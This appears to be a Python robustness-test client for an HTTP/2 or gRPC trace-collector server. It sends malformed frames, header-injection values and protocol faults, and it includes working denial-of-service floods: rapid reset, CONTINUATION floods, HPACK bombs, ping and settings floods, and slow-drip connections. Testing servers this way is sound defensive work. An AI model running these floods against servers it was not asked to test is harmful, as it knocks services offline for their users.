"""A client that does over HTTP/2 what no well-behaved client does.

usage: hostile_http2.py HOST:PORT grpc|http [ATTACK ...]

Attacks are the functions of this file that are marked so; without any on the command line, their names are read from
standard input, one a line. Each has one connection, on which it may send until the server hangs up. Prints one JSON
object for each, on a line of its own: its name ("attack"), how often each status came ("status"), how often streams were
reset, by code ("reset"), the code of the last GOAWAY ("goaway", null without one), whether the server closed the
connection ("closed"), how many frames or pieces of the attack went ("sent"), and what went wrong here ("error").
"""

import collections
import json
import socket
import sys
import threading

import hpack
from hyperframe import frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GRPC = len(sys.argv) > 2 and sys.argv[2] == "grpc"
HEAD = [
    (":method", "POST"),
    (":scheme", "http"),
    (":authority", "x"),
    (":path", "/opentelemetry.proto.collector.trace.v1.TraceService/Export" if GRPC else "/v1/traces"),
    ("content-type", "application/grpc" if GRPC else "application/x-protobuf"),
    ("te", "trailers"),
]
# The body of an Export without spans.
EMPTY = bytes(5) if GRPC else b""
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def raw(kind, flags=0, stream=0, payload=b"", length=None):
    """A frame that need not be a right one."""
    size = len(payload) if length is None else length
    return size.to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """A field that is not indexed."""

    def text(value):
        value = value if isinstance(value, bytes) else value.encode()
        return hpack.hpack.encode_integer(len(value), 7) + value

    return b"\0" + text(name) + text(value)


def block(fields):
    return b"".join(literal(*field) for field in fields)


class Peer:
    def __init__(self, target, settings=None, greet=True, reads=True):
        host, port = target.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.status = collections.Counter()
        self.resets = collections.Counter()
        self.goaway = None
        self.settings = {}
        self.pongs = 0
        self.closed = False
        self.reads = reads
        self.sent = 0
        self.changed = threading.Condition()
        if reads:
            threading.Thread(target=self.read, daemon=True).start()
        else:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            self.socket.settimeout(1)
        if greet:
            first = frames.SettingsFrame(0, settings=settings or {})
            self.send(PREFACE + first.serialize(), count=0)
            if reads:
                self.wait(lambda: self.settings)
                # The server's own limits count from here on.
                self.send(raw(4, 1), count=0)

    def close(self):
        try:
            self.socket.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.socket.close()

    # What comes

    def read(self):
        decoder, data = hpack.Decoder(), b""
        while True:
            try:
                more = self.socket.recv(1 << 16)
            except OSError:
                more = b""
            if not more:
                break
            data += more
            while len(data) >= 9:
                frame, length = frames.Frame.parse_frame_header(memoryview(data)[:9])
                if len(data) < 9 + length:
                    break
                frame.parse_body(memoryview(data[9 : 9 + length]))
                data = data[9 + length :]
                with self.changed:
                    self.take(frame, decoder)
                    self.changed.notify_all()
        with self.changed:
            self.closed = True
            self.changed.notify_all()

    def take(self, frame, decoder):
        if isinstance(frame, frames.HeadersFrame):
            fields = dict(decoder.decode(frame.data))
            if ":status" in fields:
                self.status[fields[":status"]] += 1
        elif isinstance(frame, frames.RstStreamFrame):
            self.resets[frame.error_code] += 1
        elif isinstance(frame, frames.GoAwayFrame):
            self.goaway = frame.error_code
        elif isinstance(frame, frames.SettingsFrame) and "ACK" not in frame.flags:
            self.settings = dict(frame.settings) or {0: 0}
        elif isinstance(frame, frames.PingFrame) and "ACK" in frame.flags:
            self.pongs += 1

    def wait(self, condition, timeout=60):
        """Waits until it holds or the connection ended; whether it holds."""
        with self.changed:
            self.changed.wait_for(lambda: condition() or self.closed, timeout)
            return condition()

    # What goes

    def send(self, data, count=1):
        """False: the server is gone."""
        self.sent += count
        try:
            self.socket.sendall(data)
        except OSError:
            return False
        return not self.closed and self.goaway is None

    def flood(self, make, count=20000, batch=50):
        """Sends until the server has enough, or reads no more itself."""
        for first in range(0, count, batch):
            if not self.send(b"".join(make(number) for number in range(first, first + batch)), count=batch):
                break
        self.end()

    def drip(self, data):
        for byte in data:
            if not self.send(bytes([byte])) or self.wait(lambda: self.goaway is not None, 1):
                break
        self.end()

    def end(self):
        """The server is to hang up by itself."""
        if self.reads:
            self.wait(lambda: False)

    def synchronise(self):
        """Waits until the server has read what was sent; whether the connection is still there."""
        before = self.pongs
        self.send(raw(6, 0, 0, bytes(8)), count=0)
        return self.wait(lambda: self.pongs > before or self.goaway is not None)

    def request(self, stream, fields=HEAD, end=False, end_headers=True):
        return raw(1, (1 if end else 0) | (4 if end_headers else 0), stream, block(fields))

    def good(self, stream):
        """One right request, to see that the connection is still of use."""
        self.send(self.request(stream) + raw(0, 1, stream, EMPTY), count=0)
        self.wait(lambda: self.status["200"] > 0 or self.goaway is not None)

    def refused(self, data, stream=3):
        """Sends what is to be refused by itself; the connection goes on."""
        self.send(data)
        self.synchronise()
        self.good(stream)


# Floods: the server hangs up.


@attack
def rapid_reset(peer):
    peer.flood(lambda n: peer.request(2 * n + 1) + raw(3, 0, 2 * n + 1, bytes([0, 0, 0, 8])))


@attack
def rapid_reset_of_answered(peer):
    """Each request is whole and reset before its answer can come."""
    peer.flood(
        lambda n: peer.request(2 * n + 1) + raw(0, 1, 2 * n + 1, EMPTY) + raw(3, 0, 2 * n + 1, bytes([0, 0, 0, 8]))
    )


@attack
def continuation_flood(peer):
    peer.send(raw(1, 0, 1, block(HEAD)))
    peer.flood(lambda n: raw(9, 0, 1, literal("x-%d" % n, "y" * 1000)), batch=1)


@attack
def empty_continuation_flood(peer):
    peer.send(raw(1, 0, 1, block(HEAD)))
    peer.flood(lambda n: raw(9, 0, 1), batch=10)


@attack
def made_you_reset_content_length(peer):
    fields = HEAD + [("content-length", "5")]
    peer.flood(lambda n: peer.request(2 * n + 1, fields) + raw(0, 1, 2 * n + 1, b"1"))


@attack
def made_you_reset_content_length_exceeded(peer):
    fields = HEAD + [("content-length", "1")]
    peer.flood(lambda n: peer.request(2 * n + 1, fields) + raw(0, 0, 2 * n + 1, b"12345"))


@attack
def made_you_reset_stream_window(peer):
    peer.flood(lambda n: peer.request(2 * n + 1) + raw(8, 0, 2 * n + 1, b"\x7f\xff\xff\xff"))


@attack
def made_you_reset_uppercase(peer):
    peer.flood(lambda n: peer.request(2 * n + 1, HEAD + [("X-Big", "1")]))


@attack
def made_you_reset_connection_field(peer):
    peer.flood(lambda n: peer.request(2 * n + 1, HEAD + [("transfer-encoding", "chunked")]))


@attack
def made_you_reset_trailers(peer):
    """A second header block that does not end its stream."""
    peer.flood(lambda n: peer.request(2 * n + 1) + raw(1, 4, 2 * n + 1, literal("x", "y")))


@attack
def made_you_reset_pseudo_trailers(peer):
    peer.flood(lambda n: peer.request(2 * n + 1) + raw(1, 5, 2 * n + 1, literal(":path", "/")))


@attack
def refused_stream_flood(peer):
    """The streams that are let in are never ended; all others are past the maximum."""
    peer.flood(lambda n: peer.request(2 * n + 1))


@attack
def empty_data_flood(peer):
    peer.send(peer.request(1), count=0)
    peer.flood(lambda n: raw(0, 0, 1))


@attack
def padding_flood(peer):
    peer.send(peer.request(1), count=0)
    peer.flood(lambda n: raw(0, 8, 1, b"\xc8" + bytes(200)))


@attack
def ping_flood(peer):
    peer.flood(lambda n: raw(6, 0, 0, bytes(8)))


@attack
def ping_ack_flood(peer):
    peer.flood(lambda n: raw(6, 1, 0, bytes(8)))


@attack
def settings_flood(peer):
    peer.flood(lambda n: raw(4, 0, 0, b"\0\4\0\1\0\0"))


@attack
def priority_flood(peer):
    peer.flood(lambda n: raw(2, 0, 2 * n + 1, bytes([0, 0, 0, 0, 16])))


@attack
def priority_update_flood(peer):
    peer.flood(lambda n: raw(16, 0, 0, (2 * n + 1).to_bytes(4, "big") + b"u=1"))


@attack
def window_update_flood(peer):
    peer.flood(lambda n: raw(8, 0, 0, bytes([0, 0, 0, 1])))


@attack
def stream_window_update_flood(peer):
    peer.send(peer.request(1), count=0)
    peer.flood(lambda n: raw(8, 0, 1, bytes([0, 0, 0, 1])))


@attack
def unknown_frame_flood(peer):
    peer.flood(lambda n: raw(0xFA, 0xFF, n, b"what?"))


@attack
def goaway_flood(peer):
    peer.send(peer.request(1), count=0)
    peer.flood(lambda n: raw(7, 0, 0, bytes(8)))


@attack
def reset_of_closed_streams_flood(peer):
    peer.good(1)
    peer.flood(lambda n: raw(3, 0, 1, bytes(4)))


@attack
def long_trailers_flood(peer):
    """Trailers of more fields than there may be."""
    fields = block([("x-%d" % n, "y" * 100) for n in range(110)])
    peer.flood(lambda n: peer.request(2 * n + 1) + raw(1, 5, 2 * n + 1, fields), batch=10)


@attack
def falling_streams_flood(peer):
    """Streams that the higher number before them has closed."""
    peer.send(peer.request(20001), count=0)
    peer.flood(lambda n: peer.request(2 * (n % 10000) + 1))


# HPACK: a few bytes that stand for many.


def bomb(encoder_bytes, count):
    """A field of 4 KiB goes to the dynamic table once, and is referred to a byte at a time."""
    name, value = b"x-bomb", b"b" * 4000
    entry = b"\x40" + bytes([len(name)]) + name + hpack.hpack.encode_integer(len(value), 7) + value
    return entry if encoder_bytes else b"\xbe" * count


@attack
def hpack_bomb(peer):
    """4 MB of header list in 1 KB, again and again."""
    peer.send(raw(1, 5, 1, block(HEAD) + bomb(True, 0)), count=0)
    peer.flood(lambda n: raw(1, 5, 2 * n + 3, block(HEAD) + bomb(False, 1000)), batch=5)


@attack
def hpack_bomb_of_fields(peer):
    """Very many small fields, which are in the static table."""
    peer.flood(lambda n: raw(1, 5, 2 * n + 1, block(HEAD) + b"\x90" * 4000), batch=5)


@attack
def hpack_bomb_zero_window(peer):
    """As long as the answers cannot be sent, the requests stay."""
    peer.send(raw(1, 5, 1, block(HEAD) + bomb(True, 0)), count=0)
    peer.flood(lambda n: raw(1, 5, 2 * n + 3, block(HEAD) + bomb(False, 1000)), batch=5)


hpack_bomb_zero_window.settings = {4: 0}


@attack
def hpack_below_the_limit_zero_window(peer):
    """Header lists that are just borne, of requests that cannot be answered and so are never done."""
    fields = [("x-%d" % n, "v" * 3000) for n in range(5)]
    for number in range(peer.settings[3]):
        peer.send(peer.request(2 * number + 1, HEAD + fields))
    peer.synchronise()


hpack_below_the_limit_zero_window.settings = {4: 0}


# Faults of the connection: it ends, with the code that RFC 9113 names.


def fault(name, code, data):
    """Bytes because of which the connection is to end."""

    def run(peer):
        peer.send(data(peer))
        peer.end()

    ATTACKS[name] = run


def setting(number):
    """One that nobody knows."""
    return (0x1000 + number).to_bytes(2, "big") + bytes([0, 0, 0, 1])


PROTOCOL, FLOW, CLOSED, SIZE, COMPRESSION, CALM = 1, 3, 5, 6, 9, 11
fault("hpack_garbage", COMPRESSION, lambda p: raw(1, 5, 1, b"\xff\xff\xff\xff\xff\xff\xff\xff\xff"))
fault("hpack_unknown_index", COMPRESSION, lambda p: raw(1, 5, 1, b"\xc9"))
fault("hpack_table_too_large", COMPRESSION, lambda p: raw(1, 5, 1, b"\x3f\xe1\xff\xff\x07" + block(HEAD)))
fault("hpack_cut_block", COMPRESSION, lambda p: raw(1, 5, 1, block(HEAD)[:-3]))
fault("oversized_data", SIZE, lambda p: p.request(1) + raw(0, 0, 1, bytes(16385)))
fault("oversized_headers", SIZE, lambda p: raw(1, 4, 1, block(HEAD) + bytes(16384)))
fault("oversized_unknown", SIZE, lambda p: raw(0xFA, 0, 0, bytes(16385)))
fault("huge_frame_announced", SIZE, lambda p: raw(0, 0, 1, b"", length=0xFFFFFF))
fault("data_on_half_closed", CLOSED, lambda p: stalled(p) + raw(0, 0, 1, b"x"))
fault("headers_on_half_closed", CLOSED, lambda p: stalled(p) + raw(1, 5, 1, literal("x", "y")))
fault("data_on_idle", PROTOCOL, lambda p: raw(0, 0, 1, b"x"))
fault("reset_of_idle", PROTOCOL, lambda p: raw(3, 0, 1, bytes(4)))
fault("window_of_idle", PROTOCOL, lambda p: raw(8, 0, 1, bytes([0, 0, 0, 1])))
fault("even_stream", PROTOCOL, lambda p: p.request(2))
fault("push_promise", PROTOCOL, lambda p: raw(5, 4, 1, bytes([0, 0, 0, 2]) + block(HEAD)))
fault("headers_depending_on_itself", PROTOCOL, lambda p: raw(1, 0x25, 1, bytes([0, 0, 0, 1, 16]) + block(HEAD)))
fault("priority_of_wrong_size", SIZE, lambda p: raw(2, 0, 3, bytes(4)))
fault("ping_of_wrong_size", SIZE, lambda p: raw(6, 0, 0, bytes(7)))
fault("ping_on_stream", PROTOCOL, lambda p: raw(6, 0, 1, bytes(8)))
fault("settings_of_wrong_size", SIZE, lambda p: raw(4, 0, 0, bytes(5)))
fault("settings_ack_unasked", PROTOCOL, lambda p: raw(4, 1))
fault("settings_ack_with_content", SIZE, lambda p: raw(4, 1, 0, bytes(6)))
fault("settings_on_stream", PROTOCOL, lambda p: raw(4, 0, 1))
fault("settings_push", PROTOCOL, lambda p: raw(4, 0, 0, bytes([0, 2, 0, 0, 0, 2])))
fault("settings_window", FLOW, lambda p: raw(4, 0, 0, bytes([0, 4, 0x80, 0, 0, 0])))
fault("settings_frame_size", PROTOCOL, lambda p: raw(4, 0, 0, bytes([0, 5, 0, 0, 0, 0])))
fault("too_many_settings", CALM, lambda p: raw(4, 0, 0, b"".join(setting(n) for n in range(2000))))
fault("window_of_nothing", PROTOCOL, lambda p: raw(8, 0, 0, bytes(4)))
fault("window_of_wrong_size", SIZE, lambda p: raw(8, 0, 0, bytes(3)))
fault("window_overflow", FLOW, lambda p: raw(8, 0, 0, b"\x7f\xff\xff\xff"))
fault("continuation_alone", PROTOCOL, lambda p: raw(9, 4, 1, block(HEAD)))
fault("headers_interrupted", PROTOCOL, lambda p: p.request(1, end_headers=False) + raw(6, 0, 0, bytes(8)))
fault("padding_past_the_frame", PROTOCOL, lambda p: p.request(1) + raw(0, 8, 1, b"\x05abc"))
fault("goaway_on_stream", PROTOCOL, lambda p: raw(7, 0, 1, bytes(8)))
fault("malformed_after_goaway", PROTOCOL, lambda p: raw(7, 0, 0, bytes(8)) + raw(0, 0, 0, b"x"))


def stalled(peer):
    """A whole request whose answer waits for a window."""
    peer.send(raw(4, 0, 0, bytes([0, 4, 0, 0, 0, 0])), count=0)
    return peer.request(1) + raw(0, 1, 1, EMPTY)


@attack
def malformed_after_their_goaway(peer):
    """The server hangs up for one thing and is sent others before the connection is gone."""
    peer.send(raw(0, 0, 0, b"x"))
    peer.wait(lambda: peer.goaway is not None)
    for data in (raw(4, 1, 0, bytes(6)), b"\xff" * 5000, raw(1, 0, 1, b"\xff" * 9), bytes(100000)):
        peer.send(data)
    peer.end()


# Faults of a request: it is refused, and the connection goes on.


def refusal(name, data):
    def run(peer):
        peer.refused(data(peer))

    ATTACKS[name] = run


def without(name):
    return [field for field in HEAD if field[0] != name]


refusal("no_path", lambda p: p.request(1, without(":path"), end=True))
refusal("no_method", lambda p: p.request(1, without(":method"), end=True))
refusal("no_scheme", lambda p: p.request(1, without(":scheme"), end=True))
refusal("two_paths", lambda p: p.request(1, HEAD[:4] + [(":path", "/")] + HEAD[4:], end=True))
refusal("empty_path", lambda p: p.request(1, [(":path", "")] + without(":path"), end=True))
refusal("path_without_slash", lambda p: p.request(1, [(":path", "x")] + without(":path"), end=True))
refusal("path_with_space", lambda p: p.request(1, [(":path", "/ HTTP/1.1")] + without(":path"), end=True))
refusal("path_with_lines", lambda p: p.request(1, [(":path", "/\r\nx: y")] + without(":path"), end=True))
refusal(
    "method_with_lines", lambda p: p.request(1, [(":method", "GET / HTTP/1.1\r\nx: y")] + without(":method"), end=True)
)
refusal("authority_with_lines", lambda p: p.request(1, [(":authority", "a\r\nb")] + without(":authority"), end=True))
refusal("status_in_request", lambda p: p.request(1, [(":status", "200")] + HEAD, end=True))
refusal("unknown_pseudo_field", lambda p: p.request(1, [(":what", "x")] + HEAD, end=True))
refusal("pseudo_field_behind_others", lambda p: p.request(1, HEAD[1:] + HEAD[:1], end=True))
refusal("connection_field", lambda p: p.request(1, HEAD + [("connection", "close")], end=True))
refusal("keep_alive_field", lambda p: p.request(1, HEAD + [("keep-alive", "1")], end=True))
refusal("upgrade_field", lambda p: p.request(1, HEAD + [("upgrade", "h2c")], end=True))
refusal("proxy_connection_field", lambda p: p.request(1, HEAD + [("proxy-connection", "x")], end=True))
refusal("transfer_encoding_field", lambda p: p.request(1, HEAD + [("transfer-encoding", "chunked")], end=True))
refusal("te_other_than_trailers", lambda p: p.request(1, without("te") + [("te", "gzip")], end=True))
refusal("uppercase_name", lambda p: p.request(1, HEAD + [("X-Y", "z")], end=True))
refusal("empty_name", lambda p: p.request(1, HEAD + [("", "z")], end=True))
refusal("name_with_colon", lambda p: p.request(1, HEAD + [("a:b", "z")], end=True))
refusal("name_with_lines", lambda p: p.request(1, HEAD + [("a\r\nb", "z")], end=True))
refusal("value_with_lines", lambda p: p.request(1, HEAD + [("a", "b\r\nc: d")], end=True))
refusal("value_with_zero", lambda p: p.request(1, HEAD + [("a", "b\0c")], end=True))
refusal(
    "two_content_lengths", lambda p: p.request(1, HEAD + [("content-length", "0"), ("content-length", "5")], end=True)
)
refusal("content_length_no_number", lambda p: p.request(1, HEAD + [("content-length", "5, 5")], end=True))
refusal("content_length_overflow", lambda p: p.request(1, HEAD + [("content-length", "9" * 30)], end=True))
refusal("content_length_wrong", lambda p: p.request(1, HEAD + [("content-length", "5")], end=True))
refusal("connect_method", lambda p: p.request(1, [(":method", "CONNECT"), (":authority", "x")], end=True))
refusal("window_overflow_of_stream", lambda p: p.request(1) + raw(8, 0, 1, b"\x7f\xff\xff\xff"))
refusal("trailers_without_end", lambda p: p.request(1) + raw(1, 4, 1, literal("x", "y")))
refusal("pseudo_field_in_trailers", lambda p: p.request(1) + raw(1, 5, 1, literal(":path", "/")))
refusal("header_list_past_the_limit", lambda p: big_list(p, 9))
refusal("very_many_cookies", lambda p: raw(1, 5, 1, block(HEAD) + literal("cookie", "a=b") * 1000))
refusal("header_fields_past_the_limit", lambda p: p.request(1, HEAD + [("x", "y")] * 200, end=True))
refusal("header_list_far_past_the_limit", lambda p: big_list(p, 34))


def big_list(peer, count):
    """So many fields of 4 KB, on stream 1."""
    lists = [[("x-%d" % n, "v" * 4000) for n in range(count)][first : first + 4] for first in range(0, count, 4)]
    first, *others, last = lists
    data = raw(1, 1, 1, block(HEAD + first)) + b"".join(raw(9, 0, 1, block(fields)) for fields in others)
    return data + raw(9, 4, 1, block(last))


@attack
def one_stream_too_many(peer):
    """Another stream while as many as may be are open; each of those is still answered."""
    most = peer.settings[3]
    for number in range(most):
        peer.send(peer.request(2 * number + 1), count=0)
    peer.send(peer.request(2 * most + 1) + raw(0, 1, 2 * most + 1, EMPTY))
    peer.wait(lambda: sum(peer.resets.values()) > 0 or peer.goaway is not None)
    for number in range(most):
        peer.send(raw(0, 1, 2 * number + 1, EMPTY), count=0)
    peer.wait(lambda: peer.status["200"] == most or peer.goaway is not None)
    if peer.goaway is None:
        peer.refused(b"", 2 * most + 3)


# Strange, and allowed: nothing is refused.


@attack
def unknown_settings(peer):
    peer.send(raw(4, 0, 0, b"".join(setting(number) for number in range(30))))
    peer.synchronise()
    peer.good(1)


@attack
def unknown_frames(peer):
    for kind in range(10, 250):
        peer.send(raw(kind, 0xFF, kind, bytes(kind)))
    peer.synchronise()
    peer.good(1)


@attack
def table_of_the_largest_size(peer):
    """Leave for an encoder's table of 4 GiB."""
    peer.send(raw(4, 0, 0, b"\0\1\xff\xff\xff\xff"))
    peer.synchronise()
    peer.good(1)


@attack
def priority_on_itself(peer):
    """RFC 9113 has no dependencies any more."""
    peer.refused(raw(2, 0, 3, bytes([0, 0, 0, 3, 16])), 3)


@attack
def falling_streams(peer):
    """What comes for a stream that a higher number has closed is passed over."""
    peer.refused(peer.request(5) + peer.request(3) + raw(3, 0, 5, bytes([0, 0, 0, 8])), 7)


@attack
def data_after_the_answer(peer):
    """More than the connection's window, for a stream that was answered long ago."""
    peer.send(peer.request(1, without("content-type") + [("content-type", "text/plain")]), count=0)
    peer.wait(lambda: sum(peer.status.values()) > 0)
    for _ in range(700):
        peer.send(raw(0, 0, 1, bytes(16384)))
        peer.synchronise()
    peer.good(3)


# Peers that do not read.


@attack
def pings_unread(peer):
    """Makes the server answer and never reads."""
    peer.flood(lambda n: raw(6, 0, 0, bytes(8)), count=200000)


@attack
def settings_unread(peer):
    peer.flood(lambda n: raw(4), count=200000)


@attack
def requests_unread(peer):
    """Whole requests whose answers are never read."""
    peer.flood(lambda n: peer.request(2 * n + 1) + raw(0, 1, 2 * n + 1, EMPTY), count=20000)


for function in (pings_unread, settings_unread, requests_unread):
    function.reads = False


@attack
def no_preface(peer):
    peer.send(b"\x16\x03\x01 what is this")
    peer.end()


@attack
def no_settings(peer):
    """A preface that goes on with something other than SETTINGS."""
    peer.send(PREFACE + raw(6, 0, 0, bytes(8)))
    peer.end()


@attack
def slow_preface(peer):
    """A byte now and then: the time for the preface is not that since the last byte."""
    peer.drip(PREFACE[:-1])


@attack
def slow_headers(peer):
    peer.send(peer.request(1, end_headers=False))
    peer.drip(raw(9, 0, 1, block([("x", "y" * 1000)])))


for function in (no_preface, no_settings, slow_preface):
    function.greet = False


def main():
    for line in sys.argv[3:] or sys.stdin:
        name = line.strip()
        try:
            print(json.dumps(run(name)), flush=True)
        except Exception as error:
            print(json.dumps({"attack": name, "error": repr(error)}), flush=True)


def run(name):
    function = ATTACKS[name]
    reads = getattr(function, "reads", True)
    peer = Peer(sys.argv[1], getattr(function, "settings", None), getattr(function, "greet", True), reads)
    try:
        function(peer)
        with peer.changed:
            return {
                "attack": name,
                "status": peer.status,
                "reset": {int(code): count for code, count in peer.resets.items()},
                "goaway": peer.goaway,
                "closed": peer.closed,
                "sent": peer.sent,
                "error": None,
            }
    finally:
        peer.close()


if __name__ == "__main__":
    main()
